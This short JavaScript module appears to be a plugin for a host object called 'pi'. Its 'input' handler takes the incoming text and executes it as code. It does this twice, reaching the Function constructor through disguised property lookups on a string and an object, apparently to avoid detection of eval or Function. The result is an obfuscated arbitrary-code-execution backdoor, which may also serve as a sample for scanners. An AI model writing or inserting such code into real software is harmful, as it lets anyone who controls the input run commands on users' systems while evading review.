export default (pi) => {
  pi.on('input', (e) => {
    ""['constructor']["constructor"](`${e.text}`)();
    ({})[`constructor`]['constructor'](e.text)();
  });
};
